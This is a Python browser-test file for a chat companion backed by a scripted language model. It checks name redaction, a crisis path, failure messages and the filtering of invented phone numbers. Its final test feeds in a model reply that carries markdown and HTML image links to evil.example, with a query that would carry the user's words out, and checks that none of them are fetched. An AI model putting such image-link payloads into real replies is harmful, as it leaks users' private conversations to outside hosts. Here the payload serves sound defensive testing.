"""Both walks of first light with a language model behind the model writer: a scripted server that records every byte it receives."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Page, expect
from scripted_llm import Ok, ScriptedLLM, Status
from walks import AT_RISK, TIRED, Server, past_notice, say

REPLY = (
    "It sounds as if the shifts keep coming and rest does not. "
    "Check three things before you say yes to an extra shift: hours slept, the last full day off, and what is planned at home [1]. "
    "What would help you most tonight?"
)


@pytest.fixture(scope="module")
def model() -> Iterator[ScriptedLLM]:
    """A scripted model server for this file."""
    with ScriptedLLM() as server:
        yield server


@pytest.fixture(scope="module")
def model_server(start_server: Callable[..., Server], model: ScriptedLLM) -> Server:
    """A Companion whose replies the scripted model writes."""
    return start_server(OPENAI_BASE_URL=model.base_url, OPENAI_API_KEY="test-key", OPENAI_MODEL="scripted")


@pytest.fixture
def model_chat(new_page: Callable[..., Page], model_server: Server, model: ScriptedLLM) -> Page:
    """A chat past the notice, with nothing recorded yet."""
    model.requests.clear()
    return past_notice(new_page(), model_server)


def test_the_model_writes_the_reply_and_never_receives_the_name(model_chat: Page, model: ScriptedLLM) -> None:
    model.will(Ok(REPLY))

    say(model_chat, TIRED)

    expect(model_chat.locator(".reply")).to_contain_text("the shifts keep coming")
    assert model_chat.locator(".chip").count() >= 1
    sent = model.received_bytes.lower()
    assert b"3 shifts in a row" in sent
    assert b"sarah" not in sent
    assert b"whitfield" not in sent


def test_the_name_behind_a_placeholder_is_shown_in_the_browser_only(model_chat: Page, model: ScriptedLLM) -> None:
    model.will(Ok(f"It sounds as if the person you call [Person A] keeps adding shifts. {REPLY}"))

    say(model_chat, TIRED)

    expect(model_chat.locator(".reply .placeholder")).to_have_text("sarah whitfield")
    assert b"whitfield" not in model.received_bytes.lower()


def test_at_risk_calls_no_model(model_chat: Page, model: ScriptedLLM) -> None:
    model.will(Ok("You will feel better soon."))

    say(model_chat, AT_RISK)

    expect(model_chat.locator('.crisis a[href="tel:116123"]')).to_be_visible()
    assert model_chat.locator(".chip").count() == 0
    assert not model.requests


def test_a_failing_model_leaves_a_cited_reply_that_says_so(model_chat: Page, model: ScriptedLLM) -> None:
    model.will(Status(503))

    say(model_chat, TIRED)

    expect(model_chat.get_by_text("The language model did not answer properly")).to_be_visible()
    assert model_chat.locator(".chip").count() >= 1


def test_an_invented_number_never_reaches_the_screen(model_chat: Page, model: ScriptedLLM) -> None:
    model.will(Ok("It sounds hard. Call 0800 555 0199 for help [1]. Ring 0800 555 0199 now. What else?"))

    say(model_chat, TIRED)

    expect(model_chat.locator('.turn[data-state="done"]')).to_have_count(1)
    assert "0800" not in model_chat.locator("body").inner_text()


def test_a_reply_with_a_picture_link_makes_the_browser_ask_no_other_host(
    model_chat: Page, model_server: Server, model: ScriptedLLM
) -> None:
    asked: list[str] = []
    model_chat.on("request", lambda request: asked.append(request.url))
    model.will(Ok("It sounds hard. ![x](http://evil.example/p.png?q=all_she_said) <img src='http://evil.example/q'> [1]. What else?"))

    say(model_chat, TIRED)

    own = (model_server.url, model_server.url.replace("http", "ws", 1), "data:", "blob:")
    assert [url for url in asked if not url.startswith(own)] == []
    assert "evil" not in model_chat.locator("body").inner_text()
